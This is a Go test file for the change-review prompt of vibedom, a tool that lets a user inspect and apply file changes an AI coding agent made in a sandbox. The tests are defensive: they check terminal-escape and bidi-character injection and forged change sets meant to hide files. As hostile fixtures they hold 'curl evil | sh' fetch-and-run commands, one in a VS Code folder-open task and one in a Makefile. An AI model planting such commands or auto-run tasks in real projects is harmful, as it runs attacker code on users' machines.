package review

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"

	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/creack/pty"

	"github.com/vibedom/vibedom/overlay"
	"github.com/vibedom/vibedom/termtext"
)

func write(t *testing.T, p, data string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
		t.Fatal(err)
	}
}

func read(t *testing.T, p string) string {
	t.Helper()
	data, err := os.ReadFile(p)
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return string(data)
}

// fixture is a vibedom home with one ended session whose agent changed
// files of a workspace.
type fixture struct {
	home, ws string
	sess     *SessionInfo
}

// newFixture makes the workspace from base, a session with a baseline, and
// the patch to the workspace as agent changes it (path -> content, "" to
// delete).
func newFixture(t *testing.T, base, agent map[string]string) fixture {
	t.Helper()
	return newForgedFixture(t, base, agent, nil)
}

// newForgedFixture is newFixture with the change set passed through forge
// (as a guest whose agent binary was replaced could change it) and then
// through the JSON and overlay.ParseChangeSet, as the session reads it.
func newForgedFixture(t *testing.T, base, agent map[string]string, forge func(*overlay.ChangeSet)) fixture {
	t.Helper()
	return newFixtureWith(t, base, nil, agent, forge)
}

// newFixtureWith is newForgedFixture where the user changes the workspace
// during the session (path -> content), after the baseline and before the
// agent's copy: the agent's files start from the user's versions.
func newFixtureWith(t *testing.T, base, user, agent map[string]string, forge func(*overlay.ChangeSet)) fixture {
	t.Helper()
	root := t.TempDir()
	f := fixture{home: filepath.Join(root, "home"), ws: filepath.Join(root, "ws")}
	dir := filepath.Join(f.home, "sessions", "ws-1a2b")
	for p, c := range base {
		write(t, filepath.Join(f.ws, p), c)
	}
	if len(user) > 0 {
		// A git repository, so that a manifest baseline (no reflinks here)
		// still knows the start content of the files the user changes.
		for _, args := range [][]string{{"init", "-q"}, {"add", "-A"}, {"-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", "start"}} {
			cmd := exec.Command("git", args...)
			cmd.Dir = f.ws
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Skipf("git %v: %v %s", args, err, out)
			}
		}
	}
	os.MkdirAll(dir, 0o700)
	st, _ := json.Marshal(map[string]any{"name": "ws-1a2b", "workspace": f.ws, "created": time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC), "status": "stopped", "log_dir": filepath.Join(f.home, "logs", "x")})
	write(t, filepath.Join(dir, "state.json"), string(st))
	if _, err := overlay.TakeBaseline(t.Context(), f.ws, filepath.Join(dir, overlay.BaselineDir), overlay.BaselineOptions{}); err != nil {
		t.Fatal(err)
	}
	for p, c := range user {
		write(t, filepath.Join(f.ws, p), c)
	}
	ag := filepath.Join(root, "agent")
	os.MkdirAll(ag, 0o755)
	for p, c := range base {
		if u, ok := user[p]; ok {
			c = u
		}
		write(t, filepath.Join(ag, p), c)
	}
	// Deletions first, so an agent map can turn a file into a directory.
	for p, c := range agent {
		if c == "" {
			os.Remove(filepath.Join(ag, p))
		}
	}
	for p, c := range agent {
		if c != "" {
			write(t, filepath.Join(ag, p), c)
		}
	}
	cs, err := overlay.DiffTrees(f.ws, ag)
	if err != nil {
		t.Fatal(err)
	}
	if len(user) > 0 { // the agent's copy has no .git
		kept := cs.Changes[:0]
		for _, c := range cs.Changes {
			if c.Path != ".git" && !strings.HasPrefix(c.Path, ".git/") {
				kept = append(kept, c)
			}
		}
		cs.Changes = kept
	}
	if forge != nil {
		forge(cs)
		data, err := json.Marshal(cs)
		if err != nil {
			t.Fatal(err)
		}
		if cs, err = overlay.ParseChangeSet(data); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := overlay.WriteSessionPatch(t.Context(), dir, cs, overlay.DirSource(ag), nil); err != nil {
		t.Fatal(err)
	}
	f.sess = &SessionInfo{Name: "ws-1a2b", Workspace: f.ws, Created: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC), Status: "stopped",
		LogDir: filepath.Join(f.home, "logs", "x"), Dir: dir}
	return f
}

func (f fixture) options() overlay.ApplyOptions {
	return overlay.ApplyOptions{Workspace: f.sess.Workspace, SessionDir: f.sess.Dir}
}

// term is the user's side of a pseudo-terminal.
type term struct {
	t    *testing.T
	ptmx *os.File
	mu   sync.Mutex
	buf  bytes.Buffer
	seen int
}

func newTerm(t *testing.T) (*term, *os.File) {
	ptmx, tty, err := pty.Open()
	if err != nil {
		t.Skipf("no pseudo-terminal here: %v", err)
	}
	tm := &term{t: t, ptmx: ptmx}
	go func() {
		b := make([]byte, 4096)
		for {
			n, err := ptmx.Read(b)
			tm.mu.Lock()
			tm.buf.Write(b[:n])
			tm.mu.Unlock()
			if err != nil {
				return
			}
		}
	}()
	t.Cleanup(func() { tty.Close(); ptmx.Close() })
	return tm, tty
}

// expect waits until the output since the last expect contains s (failing
// after a generous guard so a broken prompt does not hang the suite).
func (tm *term) expect(s string) string {
	tm.t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		tm.mu.Lock()
		out := tm.buf.String()[tm.seen:]
		if i := strings.Index(out, s); i >= 0 {
			tm.seen += i + len(s)
			tm.mu.Unlock()
			return out[:i+len(s)]
		}
		tm.mu.Unlock()
		time.Sleep(10 * time.Millisecond)
	}
	tm.mu.Lock()
	defer tm.mu.Unlock()
	tm.t.Fatalf("terminal never showed %q; it showed:\n%s", s, tm.buf.String()[tm.seen:])
	return ""
}

func (tm *term) send(s string) {
	tm.t.Helper()
	if _, err := tm.ptmx.Write([]byte(s + "\n")); err != nil {
		tm.t.Fatal(err)
	}
}

type result struct {
	out Outcome
	rep *overlay.Report
	err error
}

func runOnTTY(t *testing.T, o Options, tty *os.File) chan result {
	o.In, o.Out, o.TTY, o.Pager = tty, tty, true, "cat"
	done := make(chan result, 1)
	go func() {
		out, rep, err := Run(t.Context(), o)
		done <- result{out, rep, err}
	}()
	return done
}

func wait(t *testing.T, done chan result) result {
	t.Helper()
	select {
	case r := <-done:
		return r
	case <-time.After(20 * time.Second):
		t.Fatal("review did not finish")
	}
	return result{}
}

var base = map[string]string{"a.txt": "a\n", "b.txt": "b\n", "c.txt": "c\n"}
var agentChanges = map[string]string{"a.txt": "a changed\n", "b.txt": "", "new.txt": "new\n"}

func TestPromptApplyAll(t *testing.T) {
	t.Parallel()
	f := newFixture(t, base, agentChanges)
	tm, tty := newTerm(t)
	done := runOnTTY(t, Options{Apply: f.options(), Color: true}, tty)
	sum := tm.expect("[d]iscard? ")
	for _, want := range []string{"1 added, 1 modified, 1 deleted", "a.txt", "new.txt"} {
		if !strings.Contains(sum, want) {
			t.Errorf("summary lacks %q:\n%s", want, sum)
		}
	}
	tm.send("a")
	r := wait(t, done)
	if r.err != nil || r.out != Applied {
		t.Fatalf("got %v %v, want applied", r.out, r.err)
	}
	tm.expect("vibedom undo")
	if got := read(t, filepath.Join(f.ws, "a.txt")); got != "a changed\n" {
		t.Errorf("a.txt: got %q", got)
	}
	if _, err := os.Stat(filepath.Join(f.ws, "b.txt")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("b.txt not deleted: %v", err)
	}
}

func TestPromptReviewThenKeep(t *testing.T) {
	t.Parallel()
	f := newFixture(t, base, agentChanges)
	tm, tty := newTerm(t)
	done := runOnTTY(t, Options{Apply: f.options(), Color: true}, tty)
	tm.expect("[d]iscard? ")
	tm.send("r")
	diff := tm.expect("[d]iscard? ")
	if !strings.Contains(diff, "\x1b[32m+a changed") || !strings.Contains(diff, "\x1b[31m-a") {
		t.Errorf("diff not colored:\n%q", diff)
	}
	tm.send("k")
	r := wait(t, done)
	if r.out != Kept || r.err != nil {
		t.Fatalf("got %v %v, want kept", r.out, r.err)
	}
	if got := read(t, filepath.Join(f.ws, "a.txt")); got != "a\n" {
		t.Errorf("workspace changed: a.txt %q", got)
	}
	if _, err := os.Stat(filepath.Join(f.sess.Dir, overlay.PatchFileName)); err != nil {
		t.Errorf("patch not kept: %v", err)
	}
}

func TestPromptSelect(t *testing.T) {
	t.Parallel()
	f := newFixture(t, base, agentChanges)
	tm, tty := newTerm(t)
	done := runOnTTY(t, Options{Apply: f.options()}, tty)
	tm.expect("[d]iscard? ")
	tm.send("s")
	tm.expect("Files to apply")
	tm.send("3") // files are a.txt, b.txt, new.txt
	r := wait(t, done)
	if r.err != nil {
		t.Fatal(r.err)
	}
	if got := read(t, filepath.Join(f.ws, "new.txt")); got != "new\n" {
		t.Errorf("new.txt: got %q", got)
	}
	if got := read(t, filepath.Join(f.ws, "a.txt")); got != "a\n" {
		t.Errorf("a.txt applied though not selected: %q", got)
	}
	if got := read(t, filepath.Join(f.ws, "b.txt")); got != "b\n" {
		t.Errorf("b.txt deleted though not selected: %q", got)
	}
}

// TestSelectIsExact: the agent turned the file lib into a directory holding
// lib/.vscode/tasks.json (flagged) and lib/util.go. The user selects only
// the deletion of lib; the selection must not widen to everything under
// lib/ as a directory prefix would — the user chose one line of the list.
func TestSelectIsExact(t *testing.T) {
	t.Parallel()
	f := newFixture(t, map[string]string{"lib": "old\n", "a.txt": "a\n"},
		map[string]string{"lib": "", "lib/.vscode/tasks.json": `{"tasks":[{"label":"x","command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}` + "\n", "lib/util.go": "package lib\n"})
	tm, tty := newTerm(t)
	done := runOnTTY(t, Options{Apply: f.options()}, tty)
	out := tm.expect("[d]iscard? ")
	// The list: a deletion of lib first (deletions are listed by path).
	n := ""
	for _, l := range strings.Split(out, "\n") {
		if strings.Contains(l, " lib") && !strings.Contains(l, "lib/") {
			n = strings.TrimSpace(strings.Fields(l)[0])
		}
	}
	n = strings.Trim(n, ".)")
	if n == "" {
		t.Fatalf("no line for lib in:\n%s", out)
	}
	tm.send("s")
	tm.expect("Files to apply")
	tm.send(n)
	r := wait(t, done)
	if r.err != nil {
		t.Fatal(r.err)
	}
	if _, err := os.Stat(filepath.Join(f.ws, "lib/.vscode/tasks.json")); err == nil {
		t.Errorf("selecting %s (lib) also applied lib/.vscode/tasks.json", n)
	}
	if _, err := os.Stat(filepath.Join(f.ws, "lib/util.go")); err == nil {
		t.Errorf("selecting %s (lib) also applied lib/util.go", n)
	}
}

func TestPromptDiscard(t *testing.T) {
	t.Parallel()
	f := newFixture(t, base, agentChanges)
	tm, tty := newTerm(t)
	done := runOnTTY(t, Options{Apply: f.options()}, tty)
	tm.expect("[d]iscard? ")
	tm.send("d")
	tm.expect("[y/N] ")
	tm.send("n") // not confirmed: asked again
	tm.expect("[d]iscard? ")
	tm.send("d")
	tm.expect("[y/N] ")
	tm.send("y")
	r := wait(t, done)
	if r.out != Discarded || r.err != nil {
		t.Fatalf("got %v %v, want discarded", r.out, r.err)
	}
	if _, err := os.Stat(filepath.Join(f.sess.Dir, overlay.PatchFileName)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("patch still there: %v", err)
	}
	if got := read(t, filepath.Join(f.ws, "a.txt")); got != "a\n" {
		t.Errorf("workspace changed: %q", got)
	}
}

func TestPromptConflict(t *testing.T) {
	t.Parallel()
	f := newFixture(t, map[string]string{"f.txt": "1\n2\n3\n"}, map[string]string{"f.txt": "1\nagent\n3\n"})
	write(t, filepath.Join(f.ws, "f.txt"), "1\nmine\n3\n") // the user edits it after the session
	tm, tty := newTerm(t)
	done := runOnTTY(t, Options{Apply: f.options()}, tty)
	sum := tm.expect("[d]iscard? ")
	if !strings.Contains(sum, "Conflicts") {
		t.Errorf("summary does not list the conflict:\n%s", sum)
	}
	tm.send("a")
	tm.expect("Conflict in f.txt")
	tm.expect("[v]iew? ")
	tm.send("c")
	r := wait(t, done)
	if r.err != nil {
		t.Fatal(r.err)
	}
	got := read(t, filepath.Join(f.ws, "f.txt"))
	if !strings.Contains(got, "<<<<<<<") || !strings.Contains(got, "mine") || !strings.Contains(got, "agent") {
		t.Errorf("f.txt: got %q, want conflict markers with both versions", got)
	}
}

func TestNoTTY(t *testing.T) {
	t.Parallel()
	for _, applyAll := range []bool{false, true} {
		t.Run(map[bool]string{false: "kept", true: "--apply"}[applyAll], func(t *testing.T) {
			f := newFixture(t, base, agentChanges)
			var out bytes.Buffer
			r, _, err := Run(t.Context(), Options{Apply: f.options(), In: strings.NewReader("a\n"), Out: &out, ApplyAll: applyAll})
			if err != nil {
				t.Fatal(err)
			}
			want, content := Kept, "a\n"
			if applyAll {
				want, content = Applied, "a changed\n"
			}
			if r != want {
				t.Errorf("outcome: got %v, want %v", r, want)
			}
			if got := read(t, filepath.Join(f.ws, "a.txt")); got != content {
				t.Errorf("a.txt: got %q, want %q", got, content)
			}
			if strings.Contains(out.String(), "\x1b[") {
				t.Errorf("colors without a terminal:\n%s", out.String())
			}
		})
	}
}

// TestTerminalInjection: names and contents cannot drive the terminal.
func TestTerminalInjection(t *testing.T) {
	t.Parallel()
	evilName := "x\u202egpj.exe"
	f := newFixture(t, map[string]string{"a.txt": "a\n"}, map[string]string{"a.txt": "a\x1b]0;pwned\x07\x1b[2J\n", evilName: "e\n"})
	var out bytes.Buffer
	pl, err := overlay.MakePlan(t.Context(), f.options())
	if err != nil {
		t.Fatal(err)
	}
	WriteSummary(&out, pl, false)
	if strings.Contains(out.String(), "\u202e") {
		t.Errorf("summary prints a bidi override raw:\n%s", out.String())
	}
	if !strings.Contains(out.String(), `"x\u202egpj.exe"`) {
		t.Errorf("summary does not show the bidi override escaped:\n%s", out.String())
	}
	for _, color := range []bool{false, true} {
		diff := ColorDiff(planText(pl), color)
		assertTerminalSafe(t, string(diff))
		if !bytes.Contains(stripStyles(diff), []byte(`a\x1b]0;pwned\x07\x1b[2J`)) {
			t.Errorf("diff (color %v) does not show the escapes visibly:\n%q", color, diff)
		}
	}
}

// styles are the escape sequences review itself writes.
var styles = []string{styleReset, styleBold, styleRed, styleGreen, styleYellow, styleCyan, styleReverse, styleNoReverse}

func stripStyles(b []byte) []byte {
	for _, s := range styles {
		b = bytes.ReplaceAll(b, []byte(s), nil)
	}
	return b
}

// assertTerminalSafe fails when out, less review's own styles, holds
// anything but printable text, newlines, carriage returns (a pty's) and
// tabs: a control character, a C1 control as a code point or a byte, a
// bidi control, a separator, an invisible character or invalid UTF-8.
func assertTerminalSafe(t *testing.T, out string) {
	t.Helper()
	s := string(stripStyles([]byte(out)))
	for i := 0; i < len(s); {
		r, n := utf8.DecodeRuneInString(s[i:])
		switch {
		case r == utf8.RuneError && n == 1:
			t.Errorf("raw byte %#x reaches the terminal at %d: %q", s[i], i, around(s, i))
		case r == '\n' || r == '\r' || r == '\t' || termtext.Safe(r):
		default:
			t.Errorf("raw %U reaches the terminal at %d: %q", r, i, around(s, i))
		}
		i += n
	}
}

func around(s string, i int) string {
	return s[max(0, i-40):min(len(s), i+40)]
}

// hostileNames hold a character of every class the sanitizer escapes that a
// valid change set path may hold (ValidatePath refuses C0 and DEL), and the
// escape the user must see.
var hostileNames = map[string]string{
	"c1-\u009b31mred.txt":        `c1-\u009b31mred.txt`,
	"nel-\u0085x.txt":            `nel-\u0085x.txt`,
	"rlo-\u202etxt.exe":          `rlo-\u202etxt.exe`,
	"lri-\u2066x\u2069.txt":      `lri-\u2066x\u2069.txt`,
	"lrm-\u200e\u200f\u061c.txt": `lrm-\u200e\u200f\u061c.txt`,
	"ls-\u2028ps-\u2029.txt":     `ls-\u2028ps-\u2029.txt`,
	"zw-\u200b\u200d\ufeff.txt":  `zw-\u200b\u200d\ufeff.txt`,
	"tag-\U000e0041.txt":         `tag-\U000e0041.txt`,
	"hangul-\u3164.txt":          `hangul-\u3164.txt`,
}

// hostileText holds every class, C0 and invalid UTF-8 included.
const hostileText = "esc\x1b[2J\x1b[3J\x1b[H bel\x07 bs\x08 cr\r del\x7f c1\u009b c1byte\x9b\x9d bad\xff rlo\u202e lri\u2066 ls\u2028 zw\u200b tag\U000e0041\n"

// TestHostileNamesOnTerminal drives the prompt on a pseudo-terminal through
// the summary, the diff in the pager, a conflict and the apply report with
// names, a not-carried reason and contents holding every class of
// character: nothing reaches the terminal raw, and each shows as an escape.
func TestHostileNamesOnTerminal(t *testing.T) {
	t.Parallel()
	agent := map[string]string{"conflict.txt": "1\nagent " + hostileText}
	for name := range hostileNames {
		agent[name] = hostileText
	}
	f := newForgedFixture(t, map[string]string{"conflict.txt": "1\n2\n"}, agent, func(cs *overlay.ChangeSet) {
		cs.Changes = append(cs.Changes, overlay.Change{Path: "skip-\x1b[2J\u009b\u202e", Op: overlay.OpSkip, Type: overlay.TypeSpecial, Reason: "reason " + hostileText})
	})
	write(t, filepath.Join(f.ws, "conflict.txt"), "1\nmine\n")
	tm, tty := newTerm(t)
	done := runOnTTY(t, Options{Apply: f.options(), Color: true}, tty)
	sum := tm.expect("[d]iscard? ")
	for _, esc := range hostileNames {
		if !strings.Contains(sum, esc) {
			t.Errorf("summary does not show %s", esc)
		}
	}
	wantReason := `"reason esc\x1b[2J\x1b[3J\x1b[H bel\x07 bs\x08 cr\r del\x7f c1\u009b c1byte` + "\ufffd\ufffd bad\ufffd" + ` rlo\u202e lri\u2066 ls\u2028 zw\u200b tag\U000e0041\n"`
	if !strings.Contains(sum, `"skip-\x1b[2J\u009b\u202e"  `+wantReason) {
		t.Errorf("summary does not show the not-carried entry escaped (want %s):\n%s", wantReason, sum)
	}
	tm.send("r")
	diff := tm.expect("[d]iscard? ")
	if !strings.Contains(string(stripStyles([]byte(diff))), `esc\x1b[2J\x1b[3J\x1b[H bel\x07 bs\x08 cr\r del\x7f c1\u009b c1byte\x9b\x9d bad\xff rlo\u202e lri\u2066 ls\u2028 zw\u200b tag\U000e0041`) {
		t.Errorf("the diff does not show the content's escapes:\n%q", diff)
	}
	tm.send("a")
	tm.expect("[v]iew? ")
	tm.send("v")
	tm.expect("[v]iew? ")
	tm.send("m")
	r := wait(t, done)
	if r.err != nil || r.out != Applied {
		t.Fatalf("got %v %v, want applied", r.out, r.err)
	}
	tm.expect("vibedom undo")
	tm.mu.Lock()
	all := tm.buf.String()
	tm.mu.Unlock()
	assertTerminalSafe(t, all)
	for _, esc := range hostileNames {
		if strings.Count(all, esc) < 2 { // summary and apply report; the diff has git's quoting
			t.Errorf("%s shown %d times, want it in the summary and the report", esc, strings.Count(all, esc))
		}
	}
}

// TestForgedChangeSetCannotHideFiles is the attack of issue 9: a forged
// change set puts "clear the screen, home the cursor" and a fake one-line
// summary in a not-carried reason. The sequences show as escapes, and the
// Makefile and the CI workflow "apply all" would write are listed after it,
// flagged, just above the prompt.
func TestForgedChangeSetCannotHideFiles(t *testing.T) {
	t.Parallel()
	fake := "\x1b[2J\x1b[3J\x1b[HThe agent changed: 0 added, 1 modified, 0 deleted, +1 −0 lines\n\n    1  M  README.md  +1 −0\n"
	f := newForgedFixture(t, map[string]string{"README.md": "r\n"},
		map[string]string{"README.md": "r2\n", "Makefile": "all:\n\tcurl evil | sh\n", ".github/workflows/ci.yml": "on: push\n"},
		func(cs *overlay.ChangeSet) {
			cs.Changes = append(cs.Changes, overlay.Change{Path: "dev/null-ish", Op: overlay.OpSkip, Type: overlay.TypeSpecial, Reason: fake})
		})
	tm, tty := newTerm(t)
	done := runOnTTY(t, Options{Apply: f.options(), Color: true}, tty)
	sum := tm.expect("[d]iscard? ")
	assertTerminalSafe(t, sum)
	plain := string(stripStyles([]byte(sum)))
	if !strings.Contains(plain, `\x1b[2J\x1b[3J\x1b[HThe agent changed`) {
		t.Errorf("the forged reason's escapes are not shown:\n%s", plain)
	}
	after := plain[strings.LastIndex(plain, `\x1b[H`):]
	for _, want := range []string{"Flagged", "Makefile", ".github/workflows/ci.yml", "3 files: 2 added, 1 modified", "2 flagged"} {
		if !strings.Contains(after, want) {
			t.Errorf("after the forged reason, above the prompt, %q is missing:\n%s", want, after)
		}
	}
	tm.send("k")
	if r := wait(t, done); r.out != Kept {
		t.Fatalf("got %v %v, want kept", r.out, r.err)
	}
}

// TestFlaggedStayNextToPrompt: with 5,000 files the flagged paths and the
// totals are still on the screen above the prompt, the first time and after
// the diff was paged.
func TestFlaggedStayNextToPrompt(t *testing.T) {
	t.Parallel()
	agent := map[string]string{"Makefile": "all:\n", ".github/workflows/ci.yml": "on: push\n", "README.md": "r2\n"}
	for i := range 5000 {
		agent[fmt.Sprintf("gen/f%04d.txt", i)] = "x\n"
	}
	f := newFixture(t, map[string]string{"README.md": "r\n"}, agent)
	tm, tty := newTerm(t)
	done := runOnTTY(t, Options{Apply: f.options()}, tty)
	screen := func(out string) string { // the last 20 lines, a small terminal's worth
		lines := strings.Split(strings.ReplaceAll(out, "\r\n", "\n"), "\n")
		return strings.Join(lines[max(0, len(lines)-20):], "\n")
	}
	check := func(when, out string) {
		t.Helper()
		scr := screen(out)
		for _, want := range []string{"Flagged", "Makefile", ".github/workflows/ci.yml", "5003 files: 5002 added, 1 modified, 0 deleted; 2 flagged"} {
			if !strings.Contains(scr, want) {
				t.Errorf("%s: %q is not on the screen above the prompt:\n%s", when, want, scr)
			}
		}
	}
	check("summary", tm.expect("[d]iscard? "))
	tm.send("r")
	check("after the diff", tm.expect("[d]iscard? "))
	tm.send("k")
	if r := wait(t, done); r.out != Kept {
		t.Fatalf("got %v %v, want kept", r.out, r.err)
	}
}

func TestParseSelection(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in   string
		want []int
		err  bool
	}{
		{"1", []int{0}, false},
		{"1-3,7", []int{0, 1, 2, 6}, false},
		{"3 1 3", []int{0, 2}, false},
		{"0", nil, true},
		{"8", nil, true},
		{"3-1", nil, true},
		{"x", nil, true},
		{"", nil, true},
	}
	for _, tc := range tests {
		got, err := ParseSelection(tc.in, 7)
		if (err != nil) != tc.err || !equalInts(got, tc.want) {
			t.Errorf("ParseSelection(%q): got %v, %v; want %v (error %v)", tc.in, got, err, tc.want, tc.err)
		}
	}
}

func equalInts(a, b []int) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}
